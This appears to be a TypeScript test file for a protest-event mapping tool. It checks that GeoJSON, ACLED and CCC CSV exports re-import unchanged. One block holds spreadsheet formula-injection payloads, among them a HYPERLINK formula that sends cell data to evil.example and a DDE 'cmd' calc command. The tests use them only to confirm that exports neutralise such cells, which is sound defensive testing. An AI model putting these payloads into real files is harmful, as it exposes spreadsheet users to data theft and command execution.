import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { exportFileName, reportCsv, toAcledCsv, toCccCsv, toGeoJson } from './export';
import Papa from 'papaparse';
import { ACLED_COLUMNS } from './import/acled';
import { CCC_COLUMNS } from './import/ccc';
import { acledCsv, acledRow, cccCsv, cccRow, toCsv } from './import/fixtures';
import { importText } from './import/run';
import { placeName } from './names';
import type { PublishedDataset } from './published';
import type { ProtestEvent } from './schema';

const published = () => JSON.parse(readFileSync('static/data/belarus-2020-08.json', 'utf8')) as PublishedDataset;
const options = { slug: 'again', title: 'Again' };

/** What an event means, independent of the file it came through. */
function meaning(event: ProtestEvent, dataset: PublishedDataset) {
	const place = dataset.places.find((p) => p.id === event.place)!;
	return {
		day: event.when.start.slice(0, 10),
		type: event.type,
		crowd: { low: event.crowd.low, high: event.crowd.high },
		coordinates: event.path?.coordinates[0] ?? place.geometry.coordinates,
		place: placeName(place)
	};
}

describe('exporting what is shown, and importing it again', () => {
	it('names files by dataset and dates', () => {
		expect(exportFileName('belarus-2020-08', { from: '2020-08-14', to: '2020-08-16' }, 'geojson')).toBe(
			'protest-atlas-belarus-2020-08-2020-08-14-2020-08-16.geojson'
		);
	});

	it('GeoJSON gives back the same events: ids, words, times, sizes, routes, sources', async () => {
		const dataset = published();
		const events = dataset.events.filter(
			(e) => dataset.places.find((p) => p.id === e.place)!.properties.kind !== 'country'
		);
		const geojson = JSON.stringify(toGeoJson(events, dataset.places, dataset.timeZone));
		const { dataset: again, report } = await importText(geojson, options);
		expect(report.rejected).toBe(0);
		expect(again.timeZone).toBe('Europe/Minsk');
		const strip = (e: ProtestEvent) => ({
			id: e.id,
			type: e.type,
			status: e.status,
			when: e.when,
			crowd: e.crowd,
			title: e.title,
			description: e.description,
			path: e.path,
			source: { ...e.sources[0], title: undefined, date: undefined }
		});
		expect(again.events.map(strip)).toEqual(events.map(strip));
		expect(again.events.map((e) => meaning(e, again))).toEqual(events.map((e) => meaning(e, dataset)));
	});

	it('ACLED CSV gives back the same events, including our own type', async () => {
		const dataset = published();
		const events = dataset.events.filter(
			(e) => !e.path && dataset.places.find((p) => p.id === e.place)!.properties.kind !== 'country'
		);
		const { dataset: again, report } = await importText(toAcledCsv(events, dataset.places), options);
		expect(report.rejected).toBe(0);
		expect(again.events.map((e) => e.id)).toEqual(events.map((e) => e.id));
		expect(again.events.map((e) => meaning(e, again))).toEqual(events.map((e) => meaning(e, dataset)));
		expect(again.events.map((e) => e.crowd.text)).toEqual(events.map((e) => e.crowd.text));
	});

	it('CCC CSV gives back the same events', async () => {
		const dataset = published();
		const events = dataset.events.filter(
			(e) => !e.path && dataset.places.find((p) => p.id === e.place)!.properties.kind !== 'country'
		);
		const { dataset: again, report } = await importText(toCccCsv(events, dataset.places), options);
		expect(report.rejected).toBe(0);
		expect(again.events.map((e) => meaning(e, again))).toEqual(events.map((e) => meaning(e, dataset)));
	});

	it('writes the import report as CSV with every issue', () => {
		const csv = reportCsv({
			rejections: [{ line: 5, field: 'event_date', message: 'expected a real calendar date, got "2020-08-32"' }],
			warnings: [{ line: 9, field: 'latitude', message: 'latitude and longitude look swapped' }]
		});
		expect(csv.split('\r\n')).toEqual([
			'outcome,line,field,reason',
			'rejected,5,event_date,"expected a real calendar date, got ""2020-08-32"""',
			'warning,9,latitude,latitude and longitude look swapped',
			''
		]);
	});
});

/** The rows of a CSV as records, by its header. */
function records(csv: string): Record<string, string>[] {
	return Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
}

const HOSTILE = {
	hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full report")',
	sum: '@SUM(1+1) square',
	command: "+cmd|' /C calc'!A0",
	minus: '-2+3+cmd|calc',
	tab: '\t=1+1',
	apostrophe: "'=already quoted"
};
const FORMULA_START = /^[=+\-@\t\r]/;

describe('exports that a spreadsheet opens as text', () => {
	async function hostileDataset() {
		const acled = acledCsv([
			acledRow({
				event_id_cnty: 'ESP77',
				notes: HOSTILE.hyperlink,
				actor1: HOSTILE.sum,
				location: HOSTILE.command,
				source: HOSTILE.minus,
				assoc_actor_1: HOSTILE.apostrophe,
				admin1: HOSTILE.tab,
				latitude: '40.4168',
				longitude: '-3.7038',
				country: 'Spain'
			})
		]);
		return (await importText(acled, options)).dataset;
	}

	it.each([
		['ACLED', toAcledCsv, new Set(['latitude', 'longitude'])],
		['CCC', toCccCsv, new Set(['lat', 'lon'])]
	] as const)('%s: no cell starts a formula, and negative longitudes stay numbers', async (_, write, numbers) => {
		const dataset = await hostileDataset();
		const rows = records(write(dataset.events, dataset.places));
		const cells = rows.flatMap((row) => Object.entries(row));
		const formulas = cells.filter(([column, cell]) => FORMULA_START.test(cell) && !numbers.has(column));
		expect(formulas).toEqual([]);
		expect(cells.filter(([column]) => numbers.has(column)).map(([, cell]) => cell)).toContain('-3.7038');
	});

	it.each([
		['ACLED', toAcledCsv],
		['CCC', toCccCsv]
	] as const)('%s: importing the export gives the hostile texts back whole', async (_, write) => {
		const dataset = await hostileDataset();
		const { dataset: again, report } = await importText(write(dataset.events, dataset.places), options);
		expect(report.rejected).toBe(0);
		const texts = (d: PublishedDataset) => [
			...d.events.flatMap((e) => [...e.actors, ...e.sources.map((s) => s.quote)]),
			...d.places.map((p) => placeName(p))
		];
		// A cell written as '= by a spreadsheet is read as the text after the apostrophe.
		for (const text of [HOSTILE.hyperlink, HOSTILE.command, HOSTILE.sum, '=already quoted'])
			expect(texts(again)).toContain(text);
	});

	it('the import report is safe too', () => {
		const csv = reportCsv({ rejections: [{ line: 2, field: 'notes', message: HOSTILE.hyperlink }], warnings: [] });
		expect(records(csv)[0]!.reason).toBe(`'${HOSTILE.hyperlink}`);
	});
});

describe('an export in the format the data came in gives back the source rows', () => {
	it('ACLED: every column with its original value, ids in their case, and the file’s own columns', async () => {
		const source = [
			acledRow({ event_id_cnty: 'BLR9001', custom_code: 'X-1' }),
			acledRow({ event_id_cnty: 'BLR9002', iso: '112', source_scale: 'Subnational', interaction: '60', tags: '' })
		];
		const columns = [...ACLED_COLUMNS, 'custom_code'];
		const { dataset } = await importText(toCsv(source, columns), options);
		const exported = records(toAcledCsv(dataset.events, dataset.places));
		expect(Object.keys(exported[0]!)).toEqual(columns);
		for (const [i, row] of source.entries())
			for (const column of columns)
				if (row[column]) expect({ column, value: exported[i]![column] }).toEqual({ column, value: row[column] });
		expect(exported.map((r) => r.event_id_cnty)).toEqual(['BLR9001', 'BLR9002']);
	});

	it('CCC: every column with its original value', async () => {
		const source = [cccRow(), cccRow({ location: '', size_cat: '3', valence: '2', issues: 'labor; wages' })];
		const { dataset } = await importText(cccCsv(source), options);
		const exported = records(toCccCsv(dataset.events, dataset.places));
		for (const [i, row] of source.entries())
			for (const column of CCC_COLUMNS)
				if (row[column]) expect({ column, value: exported[i]![column] }).toEqual({ column, value: row[column] });
	});

	it('data from another format still fills the columns from its own fields', async () => {
		const dataset = published();
		const rows = records(toAcledCsv(dataset.events.slice(0, 3), dataset.places));
		expect(rows.map((r) => r.event_id_cnty)).toEqual(dataset.events.slice(0, 3).map((e) => e.id));
		expect(rows.every((r) => r.event_type && r.latitude)).toBe(true);
	});
});
